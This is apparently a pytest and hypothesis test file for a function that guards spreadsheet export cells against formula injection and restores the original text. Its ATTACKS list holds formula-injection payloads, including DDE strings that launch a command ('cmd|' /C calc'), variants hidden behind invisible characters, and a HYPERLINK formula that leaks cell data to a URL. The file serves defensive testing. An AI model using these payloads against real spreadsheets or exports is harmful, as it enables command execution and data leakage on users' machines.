"""No text of a person becomes a formula, however the file is opened, and all of it comes back."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from blended_xblock.reports.cells import guard, unguard

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe63\u207c"
UNSEEN = " \t\r\n\0\u00a0\u3000\u200b\u202e\ufeff"
ATTACKS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?"&A1,"Open")',
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n\n=1+1",
    "\u3000\uff1d1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "'=1+1",
    "''\t'=1+1",
    "\tx",
    "\rx",
]
texts = st.text(st.sampled_from(SIGNS + UNSEEN + "',;\"aé1") | st.characters(codec="utf-8"))


def runs(cell: str) -> bool:
    """Tell whether a spreadsheet would run a cell, read as kindly to the attacker as can be."""
    return is_formula(cell) or cell[:1] in set("\t\r\n")


def is_formula(piece: str) -> bool:
    return piece.lstrip(UNSEEN)[:1] in set(SIGNS)


@given(texts)
def test_every_text_comes_back_as_it_was(text) -> None:
    assert unguard(guard(text)) == text


@given(texts)
def test_no_cell_runs_wherever_the_file_is_cut(text) -> None:
    guarded = guard(text)
    assert not runs(guarded)
    for separator in ",;\t\r\n":
        assert not any(map(is_formula, guarded.split(separator)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_known_attacks_become_texts(attack) -> None:
    assert guard(attack).startswith("'")
    assert unguard(guard(attack)) == attack
    # A reader with another separator cuts inside the text.
    for separator in ",;\t\n":
        cut = guard(f"x{separator}{attack}").split(separator)
        assert not any(map(is_formula, cut)), separator


@pytest.mark.parametrize(
    "text",
    ["", "'", "Zoë", "90", "2026-05-12 09:25:00", "09:25", "a=b", "x@example.org", "12-5", "l’été"],
)
def test_what_no_spreadsheet_runs_stays_as_it_is(text) -> None:
    assert guard(text) == text


@pytest.mark.parametrize("piece", ["'", " ", "\n", "\n'", ",", ",'", "; \t", "x", "="])
def test_a_long_text_is_read_once(piece) -> None:
    """Ten thousand notes of the longest must not hold a worker for minutes."""
    text = piece * 20_000
    started = time.perf_counter()
    assert unguard(guard(text)) == text
    assert time.perf_counter() - started < 1
